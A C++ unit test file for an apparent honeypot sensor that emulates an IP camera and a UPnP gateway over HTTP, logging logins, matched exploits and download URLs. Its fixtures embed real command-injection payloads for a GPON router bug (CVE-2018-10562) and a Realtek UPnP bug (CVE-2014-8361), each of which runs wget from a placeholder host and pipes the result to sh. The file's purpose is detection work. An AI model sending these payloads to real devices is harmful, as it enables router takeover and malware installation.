#include "sensor/protocols/http/http_session.h"

#include <fmt/format.h>
#include <gtest/gtest.h>

#include "sensor/persona/test_persona.h"

namespace mitsu::sensor::http {
namespace {

DevicePersona web_camera() {
  DevicePersona p = test_persona("camera", "arm", "IPCAM");
  p.http_server = "GoAhead-Webs";
  p.http_realm = "IPCAM";
  p.http_login_path = "/login.cgi";
  p.http_pages = {{"/", 200, "text/html", "<html>login</html>", false},
                  {"/snapshot.cgi", 200, "image/jpeg", "JPEG", true}};
  return p;
}

struct Transcript {
  std::string sent;
  std::vector<std::string> events;
  std::vector<std::string> downloads;
  bool closed = false;
};

Transcript replay(const std::string& input, std::size_t chunk,
                  std::shared_ptr<const ExploitRules> rules,
                  const DevicePersona& persona = web_camera(),
                  std::shared_ptr<upnp::PortMappingTable> mappings = nullptr) {
  TestLoginGate gate;
  HttpSession session(persona, persona_filesystem(persona), rules, gate, 0, mappings);
  session.set_local_address("198.51.100.7");
  Transcript t;
  auto add = [&](SessionActions a) {
    // The Date header is the clock's, not the session's: left out of the comparison.
    for (std::size_t at = a.send.find("Date: "); at != std::string::npos;
         at = a.send.find("Date: ", at)) {
      a.send.erase(at, a.send.find("\r\n", at) + 2 - at);
    }
    t.sent += a.send;
    for (const auto& e : a.events) {
      nlohmann::json fields = e.fields;
      fields.erase("mitsu.http.fingerprint");
      t.events.push_back(e.action + " " + fields.dump());
    }
    for (const auto& d : a.downloads) {
      t.downloads.push_back(d.url);
    }
    t.closed = t.closed || a.close;
  };
  for (std::size_t at = 0; at < input.size() && !t.closed; at += chunk) {
    std::string_view part = std::string_view(input).substr(at, chunk);
    add(session.receive(std::as_bytes(std::span(part.data(), part.size()))));
  }
  add(session.finish());
  return t;
}

std::string chunked(std::initializer_list<std::string_view> pieces) {
  std::string out;
  for (std::string_view p : pieces) {
    out += fmt::format("{:x}\r\n{}\r\n", p.size(), p);
  }
  return out + "0\r\n\r\n";
}

const std::string kPipelined =
    std::string(
        "GET / HTTP/1.1\r\nHost: x\r\nUser-Agent: Mozilla/5.0\r\n\r\n"
        "GET /snapshot.cgi HTTP/1.1\r\nHost: x\r\n\r\n"
        "GET /snapshot.cgi HTTP/1.1\r\nHost: x\r\nAuthorization: Basic cm9vdDp4YzM1MTE=\r\n\r\n"
        "POST /login.cgi HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\n"
        "Content-Length: 31\r\n\r\nusername=admin&password=12%2634"
        "POST /GponForm/diag_Form?images/ HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n") +
    chunked(
        {"XWebPageName=diag&dest_host=`", "wget+http://192.0.2.7/g+-O+/tmp/g;sh+/tmp/g", "`&ipv"}) +
    "GET /nothing HTTP/1.0\r\n\r\n";

TEST(HttpSession, PipelinedRequestsLoginsAndAnExploit) {
  auto rules = ExploitRules::load({MITSU_DEFAULT_EXPLOITS_DIR});
  ASSERT_TRUE(rules) << rules.error();
  Transcript t = replay(kPipelined, kPipelined.size(), *rules);
  EXPECT_TRUE(t.closed) << "HTTP/1.0 without keep-alive ends the connection";
  EXPECT_NE(t.sent.find("HTTP/1.1 200 OK\r\nServer: GoAhead-Webs\r\n"), std::string::npos);
  EXPECT_NE(t.sent.find("WWW-Authenticate: Basic realm=\"IPCAM\""), std::string::npos);
  EXPECT_NE(t.sent.find("image/jpeg\r\nContent-Length: 4"), std::string::npos) << t.sent;
  EXPECT_NE(t.sent.find("HTTP/1.0 404 Not Found"), std::string::npos);
  std::vector<std::string> kinds;
  for (const auto& e : t.events) {
    kinds.push_back(e.substr(0, e.find(' ')));
  }
  EXPECT_EQ(kinds,
            (std::vector<std::string>{"http.request", "http.request", "http.request",
                                      "login.attempt", "http.request", "login.attempt",
                                      "http.request", "exploit", "command", "http.request"}));
  EXPECT_NE(t.events[3].find(R"("event.outcome":"success")"), std::string::npos) << t.events[3];
  EXPECT_NE(t.events[5].find(R"("mitsu.login.password":"12&34")"), std::string::npos)
      << t.events[5];
  EXPECT_NE(t.events[7].find("CVE-2018-10562"), std::string::npos);
  EXPECT_EQ(t.downloads, std::vector<std::string>{"http://192.0.2.7/g"});
}

TEST(HttpSession, AnyChunkingGivesTheSameSession) {
  auto rules = ExploitRules::load({MITSU_DEFAULT_EXPLOITS_DIR});
  ASSERT_TRUE(rules);
  Transcript whole = replay(kPipelined, kPipelined.size(), *rules);
  for (std::size_t chunk : {1u, 2u, 5u, 100u}) {
    Transcript t = replay(kPipelined, chunk, *rules);
    EXPECT_EQ(t.sent, whole.sent) << chunk;
    EXPECT_EQ(t.events, whole.events) << chunk;
    EXPECT_EQ(t.downloads, whole.downloads) << chunk;
  }
}

TEST(HttpSession, GarbageAndOversizedRequestsEndTheConnectionWithAStatus) {
  Transcript garbage =
      replay(std::string("\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\r\n\r\n", 15), 100, nullptr);
  EXPECT_TRUE(garbage.closed);
  EXPECT_NE(garbage.sent.find(" 400 Bad Request"), std::string::npos) << garbage.sent;

  Transcript huge_headers =
      replay("GET / HTTP/1.1\r\nX: " + std::string(kMaxHeaderBytes, 'a'), 4096, nullptr);
  EXPECT_TRUE(huge_headers.closed);
  EXPECT_NE(huge_headers.sent.find(" 431 "), std::string::npos);

  Transcript huge_body =
      replay("POST / HTTP/1.1\r\nContent-Length: 99999999\r\n\r\n", 100, nullptr);
  EXPECT_NE(huge_body.sent.find(" 413 "), std::string::npos);

  // Bare LF line ends and a missing version are still a request.
  Transcript lenient = replay("GET /\n\n", 100, nullptr);
  EXPECT_NE(lenient.sent.find("HTTP/1.0 200 OK"), std::string::npos) << lenient.sent;
}

std::string post(std::string_view path, std::string_view soap_action, std::string_view body) {
  return fmt::format(
      "POST {} HTTP/1.1\r\nHost: x\r\nContent-Type: text/xml\r\nSOAPAction: \"{}\"\r\n"
      "Content-Length: {}\r\n\r\n{}",
      path, soap_action, body.size(), body);
}

// A control point's session (description, SCPD, two actions) and CVE-2014-8361 in the same
// connection, in any chunking: the same replies, events and injected download.
TEST(HttpSession, UpnpDescriptionSoapActionsAndTheRealtekInjection) {
  auto rules = ExploitRules::load({MITSU_DEFAULT_EXPLOITS_DIR});
  ASSERT_TRUE(rules);
  std::string service = "urn:schemas-upnp-org:service:WANIPConnection:1";
  auto envelope = [&](std::string_view action, std::string_view args) {
    return fmt::format(
        "<?xml version=\"1.0\"?><s:Envelope xmlns:s=\"http://schemas.xmlsoap.org/soap/"
        "envelope/\"><s:Body><u:{0} xmlns:u=\"{1}\">{2}</u:{0}></s:Body></s:Envelope>",
        action, service, args);
  };
  std::string input =
      "GET /rootDesc.xml HTTP/1.1\r\nHost: x\r\n\r\nGET /WANIPConnection.xml HTTP/1.1\r\n\r\n" +
      post("/ctl/WANIPConnection", service + "#GetExternalIPAddress",
           envelope("GetExternalIPAddress", "")) +
      post("/ctl/WANIPConnection", service + "#AddPortMapping",
           envelope("AddPortMapping",
                    "<NewRemoteHost></NewRemoteHost><NewExternalPort>47450</NewExternalPort>"
                    "<NewProtocol>TCP</NewProtocol><NewInternalPort>44382</NewInternalPort>"
                    "<NewInternalClient>`cd /var; wget http://192.0.2.9/rt; sh rt`"
                    "</NewInternalClient><NewEnabled>1</NewEnabled>"
                    "<NewPortMappingDescription>x</NewPortMappingDescription>"
                    "<NewLeaseDuration>0</NewLeaseDuration>"));
  DevicePersona persona = test_gateway();
  auto whole =
      replay(input, input.size(), *rules, persona, std::make_shared<upnp::PortMappingTable>());
  EXPECT_NE(whole.sent.find("<deviceType>urn:schemas-upnp-org:device:InternetGatewayDevice:1"),
            std::string::npos);
  EXPECT_NE(whole.sent.find("<name>AddPortMapping</name>"), std::string::npos);
  EXPECT_NE(whole.sent.find("<NewExternalIPAddress>198.51.100.7</NewExternalIPAddress>"),
            std::string::npos);
  EXPECT_NE(whole.sent.find("<u:AddPortMappingResponse"), std::string::npos) << whole.sent;
  std::vector<std::string> kinds;
  for (const auto& e : whole.events) {
    kinds.push_back(e.substr(0, e.find(' ')));
  }
  EXPECT_EQ(kinds,
            (std::vector<std::string>{"http.request", "http.request", "http.request", "upnp.action",
                                      "http.request", "exploit", "command", "upnp.action"}));
  EXPECT_NE(whole.events[5].find("CVE-2014-8361"), std::string::npos);
  EXPECT_NE(whole.events[7].find(R"("NewInternalClient":"`cd /var; wget http://192.0.2.9/rt)"),
            std::string::npos)
      << whole.events[7];
  EXPECT_EQ(whole.downloads, std::vector<std::string>{"http://192.0.2.9/rt"});
  for (std::size_t chunk : {1u, 2u, 5u, 100u}) {
    auto t = replay(input, chunk, *rules, persona, std::make_shared<upnp::PortMappingTable>());
    EXPECT_EQ(t.sent, whole.sent) << chunk;
    EXPECT_EQ(t.events, whole.events) << chunk;
    EXPECT_EQ(t.downloads, whole.downloads) << chunk;
  }
}

}  // namespace
}  // namespace mitsu::sensor::http
